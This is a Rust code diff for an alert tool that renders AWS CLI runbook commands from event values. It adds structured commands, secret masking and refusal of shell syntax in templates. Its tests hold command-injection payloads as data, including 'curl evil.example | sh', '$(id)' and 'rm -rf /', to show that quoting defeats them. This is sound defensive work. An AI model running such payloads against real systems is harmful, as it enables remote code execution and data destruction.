@@ -26,11 +26,24 @@
 //! changed, the guardrail id and its current and previous versions, the model id, the Service
 //! Quotas code (alarm tag `vigil:quota-code`; otherwise the playbooks look it up).
 //!
-//! Invariant: a value taken from an event reaches a command only shell-quoted and a URL only
-//! percent-encoded, and a value that is not known is rendered as a visible `<placeholder>`,
-//! never guessed, so a command is either right or visibly incomplete. vigil never runs these
-//! steps; the "fix" steps say "run by a person". Pure: no I/O, no clock (times derive from the
-//! alert's own time).
+//! Commands are structured. A template is split into words once (`template_words`, checked
+//! at load time: quotes group, and shell syntax such as `;`, `|`, `$` or a backtick outside
+//! single quotes is refused); each word's placeholders are filled with the value *masked
+//! first* (secrets, control characters), a multi-word value such as `{dimensions_flag}`
+//! becoming words of its own; and the step's [`Command`] holds those words (`argv`) and the
+//! line built from them once, every word through [`shell_quote`]. Nothing transforms that
+//! line afterwards: no masking, no escaping that the channel does not undo, no truncation.
+//! A renderer shows it exactly or shows a placeholder (`render::withheld`) where it cannot:
+//! too long for the channel, characters that do not show as themselves, characters the
+//! channel's code formatting cannot hold.
+//!
+//! Invariant: a value taken from an event reaches a command only masked and then shell-quoted
+//! as part of one word, so the line splits by POSIX shell rules into exactly the step's
+//! `argv` (sh, dash, bash and zsh; not fish or csh), and reaches a URL only percent-encoded. A
+//! value that is not known is rendered as a visible `<placeholder>` word, never guessed, so a
+//! command is either right or visibly incomplete. vigil never runs these steps; the "fix"
+//! steps say "run by a person". Pure: no I/O, no clock (times derive from the alert's own
+//! time).
 
 use std::collections::BTreeMap;
 use std::fmt;
@@ -43,6 +56,7 @@ use serde::{Deserialize, Deserializer, Serialize};
 use crate::classify::last_segment;
 use crate::enrich::Correlation;
 use crate::model::{Alert, Change, Kind, Link, MetricRef, ProbableCause, RunbookStep, StepAction};
+use crate::redact::Redactor;
 
 // ----------------------------------------------------------------------------------- tables
 
@@ -458,13 +472,28 @@ fn validate_step(step: &StepTemplate, at: &str) -> Result<(), RunbookError> {
             ));
         }
     }
-    if let Some(command) = step.command.as_deref()
-        && command.trim().is_empty()
-    {
-        return Err(RunbookError::at(
-            field("command"),
-            "must not be empty (omit it)",
-        ));
+    if let Some(command) = step.command.as_deref() {
+        if command.trim().is_empty() {
+            return Err(RunbookError::at(
+                field("command"),
+                "must not be empty (omit it)",
+            ));
+        }
+        let words = template_words(command)
+            .map_err(|why| RunbookError::at(field("command"), format!("{why}: {command}")))?;
+        if let Some(name) = words.iter().find_map(|w| {
+            MULTI_WORD.iter().find(|m| {
+                let whole = format!("{{{m}}}");
+                w.contains(&whole) && *w != whole
+            })
+        }) {
+            return Err(RunbookError::at(
+                field("command"),
+                format!(
+                    "`{{{name}}}` stands for several words and must be a word of its own: {command}"
+                ),
+            ));
+        }
     }
     if let Some(link) = step.link.as_deref()
         && !link.starts_with("https://")
@@ -560,12 +589,20 @@ const PLACEHOLDERS: &[(&str, &str)] = &[
 
 // ----------------------------------------------------------------------------------- values
 
-/// A filled-in value: `Plain` values come from events and are quoted; `Raw` ones are built
-/// here from already-quoted parts (several shell words, like `--dimensions Name=..,Value=..`).
+/// A filled-in value, already masked: `Plain` is one value from an event (part of one word of
+/// a command); `Words` is several whole words built here (`--dimensions Name=..,Value=..`),
+/// only ever a word, or several, of its own in a template (see [`MULTI_WORD`]).
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum Value {
     Plain(String),
-    Raw(String),
+    Words(Vec<String>),
+}
+
+/// A value from an event as it may enter a command, a title or a link: secrets masked and
+/// control characters removed (newlines become spaces) *before* it is quoted, so masking never
+/// runs over a finished command again.
+fn masked(value: &str) -> String {
+    crate::redact::sanitize(&Redactor::shared().mask_secrets(value), false).into_owned()
 }
 
 /// The values known for one alert, by placeholder name.
@@ -579,12 +616,13 @@ impl Values {
         if let Some(v) = value.map(str::trim).filter(|v| is_real_value(v)) {
             self.map
                 .entry(name)
-                .or_insert_with(|| Value::Plain(v.to_owned()));
+                .or_insert_with(|| Value::Plain(masked(v)));
         }
     }
 
-    fn raw(&mut self, name: &'static str, value: String) {
-        self.map.insert(name, Value::Raw(value));
+    /// Several words (each already masked).
+    fn words(&mut self, name: &'static str, words: Vec<String>) {
+        self.map.insert(name, Value::Words(words));
     }
 
     fn plain(&self, name: &str) -> Option<&str> {
@@ -716,8 +754,8 @@ fn dimension<'a>(alert: &'a Alert, name: &str) -> Option<&'a str> {
 
 /// `--statistics` for the five standard statistics (the SNS alarm form spells them in upper
 /// case, `SUM`), `--extended-statistics` for percentiles and trimmed means (`p99`, `tm90`).
-/// Anything else is left to the default of all three common statistics.
-fn statistics_flag(stat: &str) -> Option<String> {
+/// Anything else is left to the default of all three common statistics. Two words.
+fn statistics_flag(stat: &str) -> Option<Vec<String>> {
     let standard = match stat.to_ascii_lowercase().as_str() {
         "sum" => Some("Sum"),
         "average" | "avg" => Some("Average"),
@@ -727,7 +765,7 @@ fn statistics_flag(stat: &str) -> Option<String> {
         _ => None,
     };
     if let Some(name) = standard {
-        return Some(format!("--statistics {name}"));
+        return Some(vec!["--statistics".to_owned(), name.to_owned()]);
     }
     let lower = stat.to_ascii_lowercase();
     let extended = ["p", "tm", "wm", "tc", "ts", "pr", "iqm"]
@@ -738,7 +776,7 @@ fn statistics_flag(stat: &str) -> Option<String> {
                     || rest.starts_with(|c: char| c.is_ascii_digit() || c == '(')
             })
         });
-    extended.then(|| format!("--extended-statistics {}", shell_quote(stat)))
+    extended.then(|| vec!["--extended-statistics".to_owned(), masked(stat)])
 }
 
 fn format_time(t: DateTime<Utc>) -> String {
@@ -958,19 +996,20 @@ fn collect_values(alert: &Alert, corr: &Correlation) -> Values {
         v.set("namespace", m.namespace.as_deref());
         v.set("metric", Some(&m.name));
         v.set("period", Some(&m.period.unwrap_or(300).to_string()));
+        // One word per dimension; the shell quoting of the whole word happens once, when the
+        // command line is built from the words.
         let dims: Vec<String> = m
             .dimensions
             .iter()
-            .map(|(k, val)| format!("Name={},Value={}", shell_quote(k), shell_quote(val)))
+            .map(|(k, val)| format!("Name={},Value={}", masked(k), masked(val)))
             .collect();
         if !dims.is_empty() {
-            v.raw(
-                "dimensions_flag",
-                format!("--dimensions {}", dims.join(" ")),
-            );
+            let mut words = vec!["--dimensions".to_owned()];
+            words.extend(dims);
+            v.words("dimensions_flag", words);
         }
         if let Some(flag) = m.stat.as_deref().and_then(statistics_flag) {
-            v.raw("statistics_flag", flag);
+            v.words("statistics_flag", flag);
         }
     }
     if let Some(c) = config {
@@ -1007,17 +1046,163 @@ fn collect_values(alert: &Alert, corr: &Correlation) -> Values {
 
 // ----------------------------------------------------------------------------------- rendering
 
-/// Quotes a value for a POSIX shell. Values made only of characters that are never special
-/// stay bare so commands read naturally; anything else is single-quoted, with embedded quotes
-/// closed, escaped and reopened, so no event value can add shell syntax.
+/// Quotes one word for a POSIX shell (sh, dash, bash, zsh), so the shell reads it back as
+/// exactly that word. Words made only of characters that are never special stay bare, so
+/// commands read naturally; a word with a single quote but nothing a double-quoted string
+/// treats specially (`$`, `` ` ``, `\`, `"`, and `!`, history expansion in an interactive bash
+/// or zsh) is double-quoted (`"Quotas[?contains(QuotaName, 'rpm')]"`); anything else is
+/// single-quoted, an embedded single quote closed, escaped and reopened (`'it'\''s'`).
 pub fn shell_quote(value: &str) -> String {
     let safe = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
-    if !value.is_empty() && value.chars().all(safe) {
-        value.to_owned()
-    } else {
-        format!("'{}'", value.replace('\'', r"'\''"))
+    // zsh expands a word that starts with `=` (`=ls` is the path of ls).
+    if !value.is_empty() && value.chars().all(safe) && !value.starts_with('=') {
+        return value.to_owned();
+    }
+    if value.contains('\'') && !value.contains(['$', '`', '\\', '"', '!']) {
+        return format!("\"{value}\"");
+    }
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+/// A command for a person to run: its words (`argv[0]` is the program) and the one line a
+/// POSIX shell splits back into exactly those words, built once from them by [`shell_quote`]
+/// on every word. The two cannot disagree: the fields are private and only [`Command::new`]
+/// builds one. Renderers show [`Command::line`] as it is or not at all (see `render`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Command {
+    argv: Vec<String>,
+    line: String,
+}
+
+impl Command {
+    /// The command made of `argv`, or `None` for no words at all.
+    pub fn new(argv: Vec<String>) -> Option<Command> {
+        if argv.is_empty() {
+            return None;
+        }
+        let line = argv
+            .iter()
+            .map(|w| shell_quote(w))
+            .collect::<Vec<_>>()
+            .join(" ");
+        Some(Command { argv, line })
+    }
+
+    /// The words, as the program receives them.
+    pub fn argv(&self) -> &[String] {
+        &self.argv
+    }
+
+    /// The copy-ready line: every word shell-quoted, joined by single spaces.
+    pub fn line(&self) -> &str {
+        &self.line
     }
 }
+
+impl fmt::Display for Command {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.line)
+    }
+}
+
+/// The words of a command template, quotes removed, `{placeholders}` still in them.
+///
+/// The template language is shell words without the shell: words are separated by blanks;
+/// `'...'` keeps everything literally, `"..."` everything but `\"` and `\\`; a backslash
+/// outside quotes keeps the next character. What would make a shell do more than run one
+/// command (`;`, `&`, `|`, `(`, `)`, `$`, `` ` ``, outside single quotes) is refused, since the
+/// line a person copies is rebuilt from these words and could not mean it; `<` and `>` are
+/// ordinary characters (the `<new-value>` hints). Control characters are refused.
+fn template_words(template: &str) -> Result<Vec<String>, String> {
+    #[derive(PartialEq)]
+    enum In {
+        Blank,
+        Word,
+        Single,
+        Double,
+    }
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut state = In::Blank;
+    let mut chars = template.chars();
+    while let Some(c) = chars.next() {
+        if c.is_control() && !(c == '\n' || c == '\t') {
+            return Err(format!("control character {c:?} in the command"));
+        }
+        match state {
+            In::Single => {
+                if c == '\'' {
+                    state = In::Word;
+                } else if c == '\n' || c == '\t' {
+                    return Err("a line break or tab inside quotes".to_owned());
+                } else {
+                    word.push(c);
+                }
+            }
+            In::Double => match c {
+                '"' => state = In::Word,
+                '\\' => match chars.next() {
+                    Some(n @ ('"' | '\\')) => word.push(n),
+                    Some(n) if n.is_control() => {
+                        return Err("a line break or tab inside quotes".to_owned());
+                    }
+                    Some(n) => {
+                        word.push('\\');
+                        word.push(n);
+                    }
+                    None => return Err("an unterminated double quote".to_owned()),
+                },
+                '$' | '`' => {
+                    return Err(format!(
+                        "`{c}` inside double quotes; put literal text in single quotes"
+                    ));
+                }
+                '\n' | '\t' => return Err("a line break or tab inside quotes".to_owned()),
+                c => word.push(c),
+            },
+            In::Blank | In::Word => match c {
+                ' ' | '\t' | '\n' => {
+                    if state == In::Word {
+                        words.push(std::mem::take(&mut word));
+                    }
+                    state = In::Blank;
+                }
+                '\'' => state = In::Single,
+                '"' => state = In::Double,
+                '\\' => match chars.next() {
+                    Some(n) if !n.is_control() => {
+                        word.push(n);
+                        state = In::Word;
+                    }
+                    _ => {
+                        return Err("a backslash at the end of a line or of the command".to_owned());
+                    }
+                },
+                ';' | '&' | '|' | '(' | ')' | '$' | '`' => {
+                    return Err(format!(
+                        "shell syntax `{c}`: a step is one command, shown as its words; quote literal text"
+                    ));
+                }
+                c => {
+                    word.push(c);
+                    state = In::Word;
+                }
+            },
+        }
+    }
+    match state {
+        In::Single => Err("an unterminated single quote".to_owned()),
+        In::Double => Err("an unterminated double quote".to_owned()),
+        In::Word => {
+            words.push(word);
+            Ok(words)
+        }
+        In::Blank => Ok(words),
+    }
+}
+
+/// Placeholders that stand for several words (or none): each must be a word of its own.
+const MULTI_WORD: &[&str] = &["dimensions_flag", "statistics_flag"];
 
 /// Percent-encodes everything but RFC 3986 unreserved characters.
 fn url_encode(value: &str) -> String {
@@ -1080,15 +1265,31 @@ fn hint(name: &str) -> String {
         .unwrap_or_else(|| format!("<{}>", name.replace('_', "-")))
 }
 
-fn render_command(template: &str, values: &Values) -> String {
-    expand(template, |name| {
-        Some(match values.map.get(name) {
-            Some(Value::Plain(v)) => shell_quote(v),
-            Some(Value::Raw(v)) => v.clone(),
-            None => hint(name),
-        })
-    })
-    .unwrap_or_else(|| template.to_owned())
+/// The command a template stands for with `values` filled in: each template word becomes one
+/// word (its placeholders replaced by masked values or visible `<hints>`), a multi-word value
+/// as many words as it has. `None` only for a template [`validate_step`] would refuse.
+fn render_command(template: &str, values: &Values) -> Option<Command> {
+    let mut argv = Vec::new();
+    for word in template_words(template).ok()? {
+        if let Some((name, "")) = placeholder(&word)
+            && MULTI_WORD.contains(&name)
+        {
+            match values.map.get(name) {
+                Some(Value::Words(words)) => argv.extend(words.iter().cloned()),
+                Some(Value::Plain(v)) => argv.push(v.clone()),
+                None => argv.extend(hint(name).split_whitespace().map(str::to_owned)),
+            }
+            continue;
+        }
+        argv.push(expand(&word, |name| {
+            Some(match values.map.get(name) {
+                Some(Value::Plain(v)) => v.clone(),
+                Some(Value::Words(w)) => w.join(" "),
+                None => hint(name),
+            })
+        })?);
+    }
+    Command::new(argv)
 }
 
 /// A link only when every value is known: a console URL with a hole in it is worse than none.
@@ -1147,7 +1348,8 @@ fn team_runbook_url(base: &str, kind: Kind) -> String {
 fn render_title(template: &str, values: &Values) -> String {
     expand(template, |name| {
         Some(match values.map.get(name) {
-            Some(Value::Plain(v) | Value::Raw(v)) => v.clone(),
+            Some(Value::Plain(v)) => v.clone(),
+            Some(Value::Words(w)) => w.join(" "),
             None => hint(name),
         })
     })
@@ -1157,7 +1359,7 @@ fn render_title(template: &str, values: &Values) -> String {
 fn make_step(
     action: StepAction,
     title: String,
-    command: Option<String>,
+    command: Option<Command>,
     link: Option<String>,
 ) -> RunbookStep {
     RunbookStep {
@@ -1226,7 +1428,9 @@ pub fn steps(
         out.push(make_step(
             step.action,
             render_title(&step.title, &values),
-            step.command.as_deref().map(|c| render_command(c, &values)),
+            step.command
+                .as_deref()
+                .and_then(|c| render_command(c, &values)),
             link,
         ));
     }
@@ -1457,7 +1661,10 @@ mod tests {
     }
 
     fn commands(steps: &[RunbookStep]) -> Vec<String> {
-        steps.iter().filter_map(|s| s.command.clone()).collect()
+        steps
+            .iter()
+            .filter_map(|s| s.command.as_ref().map(|c| c.line().to_owned()))
+            .collect()
     }
 
     #[test]
@@ -1591,7 +1798,7 @@ mod tests {
         ));
         assert_eq!(
             cmds.first().map(String::as_str),
-            Some("aws cloudtrail get-trail-status --name <trail-name> --region eu-west-1")
+            Some("aws cloudtrail get-trail-status --name '<trail-name>' --region eu-west-1")
         );
         let alarm = alarm_alert("AWS/Lambda", "Errors", &[]);
         let cmds = commands(&runbook(
@@ -1602,7 +1809,7 @@ mod tests {
         ));
         assert!(
             cmds.iter()
-                .any(|c| c == "aws iam list-attached-role-policies --role-name <role-name>"),
+                .any(|c| c == "aws iam list-attached-role-policies --role-name '<role-name>'"),
             "{cmds:#?}"
         );
     }
@@ -1626,13 +1833,191 @@ mod tests {
                 "aws cloudtrail get-trail-status --name 'trail; curl evil.example | sh' --region eu-west-1"
             )
         );
-        assert_eq!(shell_quote("it's"), r"'it'\''s'");
+        assert_eq!(shell_quote("it's"), "\"it's\"");
+        assert_eq!(shell_quote("it's $HOME"), r"'it'\''s $HOME'");
+        assert_eq!(shell_quote("=ls"), "'=ls'");
         assert_eq!(shell_quote("$(id)"), "'$(id)'");
         assert_eq!(shell_quote("`id`"), "'`id`'");
         assert_eq!(shell_quote(""), "''");
         assert_eq!(
             shell_quote("arn:aws:iam::1:role/x"),
             "arn:aws:iam::1:role/x"
+        );
+    }
+
+    fn argv_of(steps: &[RunbookStep], prefix: &str) -> Vec<String> {
+        steps
+            .iter()
+            .filter_map(|s| s.command.as_ref())
+            .find(|c| c.line().starts_with(prefix))
+            .map(|c| c.argv().to_vec())
+            .unwrap_or_else(|| panic!("no command starting {prefix:?}"))
+    }
+
+    #[test]
+    fn the_issue_payload_stays_one_word_of_a_structured_command() {
+        // Issue 12: this `FunctionName` printed INJECTED-root when its command was pasted.
+        let payload = "token='arn:;echo INJECTED-$(id -un);'";
+        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", payload)]);
+        let steps = runbook(Kind::ErrorSpike, &alert, &Correlation::default(), None);
+        // Masked as a value (today's patterns leave it as it is), then one word.
+        let value = masked(payload);
+        let argv = argv_of(&steps, "aws lambda get-function-configuration");
+        assert_eq!(
+            argv[..5],
+            [
+                "aws",
+                "lambda",
+                "get-function-configuration",
+                "--function-name",
+                value.as_str()
+            ]
+        );
+        let chart = argv_of(&steps, "aws cloudwatch get-metric-statistics");
+        assert!(
+            chart.contains(&format!("Name=FunctionName,Value={value}")),
+            "one word per dimension: {chart:#?}"
+        );
+        for step in &steps {
+            if let Some(c) = &step.command {
+                assert_eq!(
+                    Command::new(c.argv().to_vec()).as_ref(),
+                    Some(c),
+                    "the line is built from the words"
+                );
+                // The only unquoted text is the fixed words; the payload sits inside quotes.
+                assert!(!c.line().contains(payload), "{}", c.line());
+            }
+        }
+    }
+
+    #[test]
+    fn values_are_masked_before_they_are_quoted() {
+        let alert = alarm_alert(
+            "AWS/Lambda",
+            "Errors",
+            &[(
+                "FunctionName",
+                "fn password=hunter2hunter2 AKIAIOSFODNN7EXAMPLE",
+            )],
+        );
+        let steps = runbook(Kind::ErrorSpike, &alert, &Correlation::default(), None);
+        let argv = argv_of(&steps, "aws lambda get-function-configuration");
+        assert_eq!(
+            argv[4],
+            "fn password=[REDACTED:secret] [REDACTED:aws-access-key]"
+        );
+        assert!(
+            steps
+                .iter()
+                .filter_map(|s| s.command.as_ref())
+                .all(|c| !c.line().contains("hunter2") && !c.line().contains("AKIA"))
+        );
+    }
+
+    #[test]
+    fn multi_word_values_are_words_of_their_own() {
+        let alert = alarm_alert(
+            "AWS/Lambda",
+            "Errors",
+            &[("FunctionName", "a b"), ("Resource", "a b:live")],
+        );
+        let steps = runbook(Kind::ErrorSpike, &alert, &Correlation::default(), None);
+        let chart = argv_of(&steps, "aws cloudwatch get-metric-statistics");
+        let at = chart
+            .iter()
+            .position(|w| w == "--dimensions")
+            .expect("flag");
+        assert_eq!(
+            chart[at..at + 3],
+            [
+                "--dimensions",
+                "Name=FunctionName,Value=a b",
+                "Name=Resource,Value=a b:live"
+            ]
+        );
+        let stat = chart
+            .iter()
+            .position(|w| w == "--statistics")
+            .expect("stat");
+        assert_eq!(chart[stat + 1], "Sum");
+        let line = steps
+            .iter()
+            .filter_map(|s| s.command.as_ref())
+            .find(|c| c.line().starts_with("aws cloudwatch get-metric-statistics"))
+            .expect("chart")
+            .line()
+            .to_owned();
+        assert!(
+            line.contains("--dimensions 'Name=FunctionName,Value=a b' 'Name=Resource,Value=a b:live' --start-time"),
+            "{line}"
+        );
+    }
+
+    #[test]
+    fn template_words_follow_quotes_and_refuse_shell_syntax() {
+        assert_eq!(
+            template_words(r#"aws x --query "A[?n=='r m']" --j '{"a":"$b"}' p\ q '' {region}"#)
+                .unwrap(),
+            [
+                "aws",
+                "x",
+                "--query",
+                "A[?n=='r m']",
+                "--j",
+                r#"{"a":"$b"}"#,
+                "p q",
+                "",
+                "{region}"
+            ]
+        );
+        assert_eq!(
+            template_words("aws x file://<policy.json>").unwrap(),
+            ["aws", "x", "file://<policy.json>"]
+        );
+        for bad in [
+            "aws x; rm -rf /",
+            "aws x | sh",
+            "aws x && y",
+            "aws x $(id)",
+            "aws x `id`",
+            "aws x \"$HOME\"",
+            "aws x 'open",
+            "aws x \"open",
+            "aws x \\",
+        ] {
+            assert!(template_words(bad).is_err(), "{bad}");
+        }
+    }
+
+    #[test]
+    fn a_user_command_with_shell_syntax_or_a_split_flag_is_refused() {
+        let err = Runbooks::from_yaml(
+            "runbooks:\n  access_denied:\n    - steps:\n        - do: check\n          title: x\n          command: aws iam get-role --role-name {role} | jq .\n",
+        )
+        .unwrap_err();
+        assert_eq!(err.path(), "runbooks.access_denied[0].steps[0].command");
+        assert!(err.message().contains("shell syntax `|`"), "{err}");
+        let err = Runbooks::from_yaml(
+            "runbooks:\n  access_denied:\n    - steps:\n        - do: check\n          title: x\n          command: aws cloudwatch get-metric-statistics x{dimensions_flag}\n",
+        )
+        .unwrap_err();
+        assert!(err.message().contains("must be a word of its own"), "{err}");
+    }
+
+    #[test]
+    fn unknown_values_are_whole_quoted_hint_words() {
+        let alert = alarm_alert("AWS/Lambda", "Errors", &[]);
+        let steps = runbook(Kind::AccessDenied, &alert, &Correlation::default(), None);
+        assert_eq!(
+            argv_of(&steps, "aws iam list-attached-role-policies"),
+            [
+                "aws",
+                "iam",
+                "list-attached-role-policies",
+                "--role-name",
+                "<role-name>"
+            ]
         );
     }
 
@@ -1710,18 +2095,17 @@ mod tests {
 
     #[test]
     fn statistics_flags_follow_the_alarm_statistic() {
-        assert_eq!(statistics_flag("SUM").as_deref(), Some("--statistics Sum"));
+        let words = |s: &str| statistics_flag(s).map(|w| w.join(" "));
+        assert_eq!(words("SUM").as_deref(), Some("--statistics Sum"));
+        assert_eq!(words("Average").as_deref(), Some("--statistics Average"));
+        assert_eq!(words("p99").as_deref(), Some("--extended-statistics p99"));
+        // Two words: the statistic is one word whatever it holds, quoted with the line.
         assert_eq!(
-            statistics_flag("Average").as_deref(),
-            Some("--statistics Average")
-        );
-        assert_eq!(
-            statistics_flag("p99").as_deref(),
-            Some("--extended-statistics p99")
-        );
-        assert_eq!(
-            statistics_flag("tm(10%:90%)").as_deref(),
-            Some("--extended-statistics 'tm(10%:90%)'")
+            statistics_flag("tm(10%:90%)"),
+            Some(vec![
+                "--extended-statistics".to_owned(),
+                "tm(10%:90%)".to_owned()
+            ])
         );
         assert_eq!(statistics_flag("weird"), None);
     }
@@ -2104,7 +2488,7 @@ runbooks:
             "{cmds:#?}"
         );
         assert!(cmds.contains(&"aws service-quotas list-service-quotas --service-code bedrock --query \"Quotas[?contains(QuotaName, 'requests per minute')].[QuotaName,QuotaCode,Value]\" --output table --region us-east-1".to_owned()), "{cmds:#?}");
-        assert!(cmds.iter().any(|c| c.starts_with("aws service-quotas request-service-quota-increase --service-code bedrock --quota-code <quota-code>")), "{cmds:#?}");
+        assert!(cmds.iter().any(|c| c.starts_with("aws service-quotas request-service-quota-increase --service-code bedrock --quota-code '<quota-code>'")), "{cmds:#?}");
     }
 
     #[test]
